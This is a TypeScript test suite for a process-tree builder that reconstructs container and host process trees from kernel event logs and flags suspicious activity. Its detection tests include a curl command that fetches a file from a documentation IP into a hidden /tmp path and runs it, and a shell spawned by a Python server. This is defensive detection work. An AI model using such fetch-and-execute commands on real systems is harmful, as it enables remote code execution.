import { describe, expect, it } from 'vitest';
import {
  execLine,
  exitLine,
  idOf,
  kprobeLine,
  type ProcSpec,
} from '../test-support/event-factory.ts';
import { buildTree, feedTree } from '../test-support/tree-factory.ts';
import type { ProcessTreeNode } from '../process.ts';

const pod = { namespace: 'default', name: 'xwing' };
const shim: ProcSpec = {
  pid: 40,
  binary: '/usr/bin/containerd-shim-runc-v2',
  flags: 'execve clone',
};
const init: ProcSpec = {
  pid: 43,
  binary: '/bin/bash',
  pod: { ...pod, containerPid: 1 },
  docker: 'abc',
  parent: shim,
  inInitTree: true,
};
const child: ProcSpec = {
  pid: 51,
  binary: '/usr/bin/whoami',
  args: '--version',
  pod,
  docker: 'abc',
  parent: init,
};

function names(nodes: ProcessTreeNode[]): unknown[] {
  return nodes.map((n) => (n.children.length ? [n.binary, names(n.children)] : n.binary));
}

describe('rule 1: every snapshot is an upsert; richer wins', () => {
  it('knows a host parent only from embedded snapshots', () => {
    const b = buildTree([execLine(init), execLine(child)]);
    expect(b.process(idOf(shim))).toMatchObject({
      binary: '/usr/bin/containerd-shim-runc-v2',
      source: 'embedded',
      group: 'host/node-a',
    });
    expect(b.process(idOf(init))?.source).toBe('exec');
  });

  it('prefers the exec snapshot over an embedded one, and fills what it lacks', () => {
    const embeddedOnly = { ...init, args: 'embedded-args', cwd: '/embedded' };
    const execWithoutCwd = execLine({ ...init, args: 'exec-args' });
    const asParent = execLine({ ...child, parent: embeddedOnly });
    for (const order of [
      [execWithoutCwd, asParent],
      [asParent, execWithoutCwd],
    ]) {
      const p = buildTree(order).process(idOf(init));
      expect(p?.arguments).toBe('exec-args');
      expect(p?.cwd).toBe('/'); // both have cwd; the exec's wins
    }
  });

  it('takes fields from ancestors[] and from unknown event types', () => {
    const grand: ProcSpec = { pid: 7, binary: '/sbin/init', flags: 'procFS' };
    const line = JSON.stringify({
      process_connect: {
        process: {
          exec_id: idOf(child),
          pid: 51,
          binary: '/usr/bin/whoami',
          parent_exec_id: idOf(init),
        },
        ancestors: [{ exec_id: idOf(grand), pid: 7, binary: '/sbin/init' }],
      },
      node_name: 'node-a',
    });
    const b = buildTree([line]);
    expect(b.process(idOf(grand))?.binary).toBe('/sbin/init');
    expect(b.process(idOf(child))?.source).toBe('event');
  });
});

describe('rule 2: parents and cycles', () => {
  it('links by parent_exec_id and survives the <kernel> self-parent', () => {
    const kernelId = 'bm9kZS1hOjE6MA=='; // node-a:1:0
    const line = JSON.stringify({
      process_exec: {
        process: {
          exec_id: kernelId,
          pid: 0,
          binary: '<kernel>',
          parent_exec_id: kernelId,
          flags: 'procFS',
        },
      },
      node_name: 'node-a',
    });
    const b = buildTree([line]);
    expect(b.ancestors(kernelId)).toEqual([]);
    expect(b.children(kernelId)).toEqual([]);
    expect(names(b.tree('host/node-a'))).toEqual(['<kernel>']);
  });

  it('terminates on longer loops in bad data and still shows every process', () => {
    const a: ProcSpec = { pid: 1, binary: '/a', pod, docker: 'abc' };
    const bb: ProcSpec = { pid: 2, binary: '/b', pod, docker: 'abc', parent: a };
    const c: ProcSpec = { pid: 3, binary: '/c', pod, docker: 'abc', parent: bb };
    const aLoop = { ...a, parent: c };
    const b = buildTree([
      execLine(aLoop, { withParent: false }),
      execLine(bb, { withParent: false }),
      execLine(c, { withParent: false }),
    ]);
    expect(b.ancestors(idOf(a)).map((p) => p.binary)).toEqual(['/c', '/b']);
    const tree = b.tree('pod/default/xwing');
    const count = (nodes: ProcessTreeNode[]): number =>
      nodes.reduce((n, x) => n + 1 + count(x.children), 0);
    expect(count(tree)).toBe(3);
  });
});

describe('rule 3 and 4: states, exit status and signal', () => {
  it('marks an exited process with status 0 when the exit has neither status nor signal', () => {
    const b = buildTree([execLine(init), execLine(child), exitLine(child)]);
    expect(b.process(idOf(child))).toMatchObject({
      state: 'exited',
      status: 0,
      signal: null,
      exitTime: '2026-01-01T00:10:00.000000001Z',
    });
    expect(b.process(idOf(init))).toMatchObject({ state: 'running', status: null, exitTime: null });
  });

  it('keeps status and signal', () => {
    const b = buildTree([execLine(child), exitLine(child, { signal: 'SIGKILL' })]);
    expect(b.process(idOf(child))).toMatchObject({ state: 'exited', status: 0, signal: 'SIGKILL' });
    expect(buildTree([exitLine(child, { status: 3 })]).process(idOf(child))).toMatchObject({
      status: 3,
      signal: null,
    });
  });

  it('matches an exit that has only pid and start_time, in either order', () => {
    const exec = execLine(child);
    const reduced = exitLine(child, { reduced: true, status: 2 });
    for (const order of [
      [exec, reduced],
      [reduced, exec],
    ]) {
      const b = buildTree(order);
      expect(b.process(idOf(child))).toMatchObject({ state: 'exited', status: 2 });
      expect(b.processes('pod/default/xwing').map((p) => p.binary)).toEqual([
        '/bin/bash',
        '/usr/bin/whoami',
      ]);
    }
  });

  it('shows an unmatched reduced exit as a stand-in under its parent until the exec arrives', () => {
    const b = buildTree([execLine(init), exitLine(child, { reduced: true, signal: 'SIGSEGV' })]);
    const standIn = b.processes('pod/default/xwing').find((p) => p.source === 'exit');
    expect(standIn).toMatchObject({
      parentExecId: idOf(init),
      state: 'exited',
      signal: 'SIGSEGV',
      pid: 51,
    });
    b.drainChanges();
    feedTree(b, [execLine(child)]);
    const changes = b.drainChanges();
    expect(changes.removes).toEqual([{ execId: standIn?.execId, group: 'pod/default/xwing' }]);
    expect(b.process(idOf(child))).toMatchObject({ state: 'exited', signal: 'SIGSEGV' });
  });

  it('marks exec without fork as replaced (same pid, no clone flag), never waiting for its exit', () => {
    const sh: ProcSpec = {
      pid: 60,
      binary: '/bin/sh',
      args: "-c 'exec nginx'",
      pod,
      docker: 'abc',
      parent: init,
    };
    const nginx: ProcSpec = {
      pid: 60,
      ktime: 99_000,
      binary: '/usr/sbin/nginx',
      flags: 'execve rootcwd',
      pod,
      docker: 'abc',
      parent: sh,
    };
    const b = buildTree([execLine(sh), execLine(nginx)]);
    expect(b.process(idOf(sh))).toMatchObject({ state: 'replaced', replacedBy: idOf(nginx) });
    expect(b.process(idOf(nginx))?.state).toBe('running');
  });

  it('does not mark a parent replaced by a cloned child or a procFS child with the same pid', () => {
    const sh: ProcSpec = { pid: 60, binary: '/bin/sh', pod, docker: 'abc' };
    const cloned: ProcSpec = {
      pid: 60,
      ktime: 99_000,
      flags: 'execve clone',
      pod,
      docker: 'abc',
      parent: sh,
    };
    const procfs: ProcSpec = {
      pid: 60,
      ktime: 98_000,
      flags: 'procFS',
      pod,
      docker: 'abc',
      parent: sh,
    };
    expect(buildTree([execLine(sh), execLine(cloned)]).process(idOf(sh))?.state).toBe('running');
    expect(buildTree([execLine(sh), execLine(procfs)]).process(idOf(sh))?.state).toBe('running');
  });
});

describe('rule 5: fork without exec', () => {
  it('shows a process known only from its exit as an exited child of its parent', () => {
    const fork: ProcSpec = {
      pid: 77,
      binary: '/bin/bash',
      flags: 'execve',
      pod,
      docker: 'abc',
      parent: init,
    };
    const b = buildTree([execLine(init), exitLine(fork)]);
    expect(b.children(idOf(init)).map((p) => [p.pid, p.state, p.binary])).toEqual([
      [77, 'exited', '/bin/bash'],
    ]);
  });

  it("borrows the parent's binary when the exit carries none", () => {
    const line = JSON.stringify({
      process_exit: {
        process: { exec_id: 'Zm9yazo5OTo3Nw==', pid: 77, parent_exec_id: idOf(init) },
        parent: { exec_id: idOf(init), pid: 43, binary: '/bin/bash' },
      },
      node_name: 'node-a',
    });
    expect(buildTree([line]).process('Zm9yazo5OTo3Nw==')?.binary).toBe('/bin/bash');
  });
});

describe('rule 6: duplicates change nothing', () => {
  it('counts an attached event once however often it is delivered', () => {
    const k = kprobeLine(child, 'security_file_permission');
    const b = buildTree([execLine(child), k, k, k]);
    expect(b.process(idOf(child))?.eventCount).toBe(1);
  });
});

describe('rule 8: procFS processes', () => {
  it('keeps the historical start time and marks them pre-existing', () => {
    const old: ProcSpec = {
      pid: 5,
      binary: '/usr/sbin/sshd',
      flags: 'procFS rootcwd',
      start: '2020-02-02T02:02:02.02Z',
    };
    expect(buildTree([execLine(old)]).process(idOf(old))).toMatchObject({
      preExisting: true,
      startTime: '2020-02-02T02:02:02.02Z',
    });
  });
});

describe('rule 9: pod roots and their host parent', () => {
  it('roots the pod at processes whose parent is outside it, with the host parent as a stub', () => {
    const runc: ProcSpec = { pid: 90, binary: '/usr/bin/runc' };
    const session: ProcSpec = {
      pid: 91,
      binary: '/bin/sh',
      pod,
      docker: 'abc',
      parent: runc,
      inInitTree: false,
    };
    const b = buildTree([execLine(init), execLine(child), execLine(session)]);
    const roots = b.tree('pod/default/xwing');
    // Roots in start-time order: the session (pid 91 starts at :31) before the init (:43).
    expect(names(roots)).toEqual(['/bin/sh', ['/bin/bash', ['/usr/bin/whoami']]]);
    expect(roots.map((r) => r.hostParent?.binary)).toEqual([
      '/usr/bin/runc',
      '/usr/bin/containerd-shim-runc-v2',
    ]);
    expect(roots[0]?.inInitTree).toBe(false);
  });
});

describe('rule 10: hosts and containers without a pod', () => {
  it('groups host processes by node', () => {
    const kubelet: ProcSpec = { pid: 300, binary: '/usr/bin/kubelet', node: 'node-b' };
    expect(
      buildTree([execLine(kubelet)])
        .groups()
        .map((g) => [g.key, g.kind, g.name]),
    ).toEqual([['host/node-b', 'host', 'node-b']]);
  });

  it('groups by container id until some snapshot names the pod', () => {
    const lost: ProcSpec = { pid: 70, binary: '/bin/cat', docker: 'abc', pod: null };
    const b = buildTree([execLine(lost, { withParent: false })]);
    expect(b.process(idOf(lost))?.group).toBe('container/abc');
    b.drainChanges();
    feedTree(b, [execLine(child, { withParent: false })]);
    expect(b.process(idOf(lost))).toMatchObject({
      group: 'pod/default/xwing',
      pod: { name: 'xwing' },
    });
    expect(b.drainChanges().removes).toEqual([{ execId: idOf(lost), group: 'container/abc' }]);
  });
});

describe('rule 11: data-loss markers', () => {
  it('stores rate_limit_info and throttle lines as markers, once each', () => {
    const rate =
      '{"rate_limit_info":{"number_of_dropped_process_events":"12"},"node_name":"node-a","time":"2026-01-01T00:00:05Z"}';
    const throttle =
      '{"process_throttle":{"type":"THROTTLE_START","cgroup":"/kubepods/x"},"node_name":"node-a","time":"2026-01-01T00:00:01Z"}';
    const b = buildTree([rate, throttle, rate]);
    expect(b.markers().map((m) => [m.kind, m.dropped, m.throttleType])).toEqual([
      ['throttle', null, 'THROTTLE_START'],
      ['rate_limit', 12, null],
    ]);
    expect(b.drainChanges().markers).toHaveLength(2);
  });
});

describe('rule 12: probe events attach to their process', () => {
  it('counts kprobes on the process and never creates nodes from tid', () => {
    const b = buildTree([
      execLine(child),
      kprobeLine(child, 'security_file_permission', 999),
      kprobeLine(child, 'tcp_connect', 998),
    ]);
    expect(b.process(idOf(child))?.eventCount).toBe(2);
    expect(b.processes('pod/default/xwing').map((p) => p.pid)).toEqual([43, 51]);
  });
});

describe('live changes', () => {
  it('reports each changed process once per drain with its group summary', () => {
    const b = buildTree([execLine(init), execLine(child)]);
    const first = b.drainChanges();
    expect(first.upserts.map((p) => p.binary).sort()).toEqual([
      '/bin/bash',
      '/usr/bin/containerd-shim-runc-v2',
      '/usr/bin/whoami',
    ]);
    expect(first.groups.map((g) => [g.key, g.processes, g.running])).toEqual([
      ['host/node-a', 1, 1],
      ['pod/default/xwing', 2, 2],
    ]);
    expect(b.drainChanges().upserts).toEqual([]);
    feedTree(b, [exitLine(child)]);
    const second = b.drainChanges();
    expect(second.upserts.map((p) => [p.binary, p.state])).toContainEqual([
      '/usr/bin/whoami',
      'exited',
    ]);
    expect(second.groups.find((g) => g.key === 'pod/default/xwing')).toMatchObject({
      running: 1,
      exited: 1,
    });
  });
});

describe('forget (retention)', () => {
  it('drops processes, reports them removed, and leaves the rest intact', () => {
    const b = buildTree([execLine(init), execLine(child), exitLine(child)]);
    b.drainChanges();
    b.forget([idOf(child)]);
    expect(b.process(idOf(child))).toBeUndefined();
    expect(b.children(idOf(init))).toEqual([]);
    const changes = b.drainChanges();
    expect(changes.removes).toEqual([{ execId: idOf(child), group: 'pod/default/xwing' }]);
    expect(changes.groups.find((g) => g.key === 'pod/default/xwing')).toMatchObject({
      processes: 1,
    });
    expect(b.group('pod/default/xwing')).toMatchObject({ processes: 1, exited: 0 });
  });
});

describe('findings', () => {
  it('explains fetch-then-exec whichever of the download and the run arrives first', () => {
    const curl: ProcSpec = {
      pid: 80,
      binary: '/usr/bin/curl',
      args: '-so /tmp/.x http://203.0.113.9/x',
      pod,
      docker: 'abc',
      parent: init,
    };
    const run: ProcSpec = { pid: 81, binary: '/tmp/.x', pod, docker: 'abc', parent: init };
    for (const order of [
      [execLine(curl), execLine(run)],
      [execLine(run), execLine(curl)],
    ]) {
      const b = buildTree(order);
      expect(b.process(idOf(run))?.findings.map((f) => [f.rule, f.relatedExecId])).toEqual([
        ['binary-in-tmp', null],
        ['fetch-then-exec', idOf(curl)],
      ]);
      expect(b.group('pod/default/xwing')?.flagged).toBe(1);
    }
  });

  it('flags a shell under a server process once the parent is known', () => {
    const server: ProcSpec = { pid: 20, binary: '/usr/local/bin/python3.12', pod, docker: 'abc' };
    const shell: ProcSpec = {
      pid: 21,
      binary: '/bin/sh',
      args: '-c id',
      pod,
      docker: 'abc',
      parent: server,
    };
    const b = buildTree([execLine(shell, { withParent: false })]);
    expect(b.process(idOf(shell))?.findings).toEqual([]);
    b.drainChanges();
    feedTree(b, [execLine(server)]);
    expect(b.drainChanges().upserts.find((p) => p.execId === idOf(shell))?.findings[0]?.rule).toBe(
      'shell-from-server',
    );
  });
});
